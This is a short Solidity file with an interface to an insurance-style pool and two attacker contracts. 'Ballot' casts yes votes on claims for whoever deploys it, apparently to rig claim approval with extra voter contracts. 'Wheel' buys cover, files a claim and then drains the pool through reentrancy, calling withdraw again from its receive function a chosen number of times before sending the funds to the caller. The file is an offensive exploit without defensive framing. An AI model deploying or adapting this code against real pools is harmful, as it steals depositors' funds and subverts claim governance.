// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Pool {
    function vote(uint256 id, bool pay) external;
    function buy(uint256 id, uint256 amount, uint256 time) external payable;
    function file(uint256 id) external payable;
    function withdraw(address payable to) external;
}

/// Votes for whoever made it.
contract Ballot {
    function cast(Pool pool, uint256 id) external {
        pool.vote(id, true);
    }
}

/// Holds a cover, and withdraws again while it is being paid.
contract Wheel {
    Pool private immutable pool;
    uint256 private left;

    constructor(Pool where) {
        pool = where;
    }

    function cover(uint256 id, uint256 amount, uint256 time) external payable {
        pool.buy{value: msg.value}(id, amount, time);
    }

    function tell(uint256 id) external payable {
        pool.file{value: msg.value}(id);
    }

    function turn(uint256 times) external {
        left = times;
        pool.withdraw(payable(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (left == 0) return;
        left -= 1;
        pool.withdraw(payable(address(this)));
    }
}
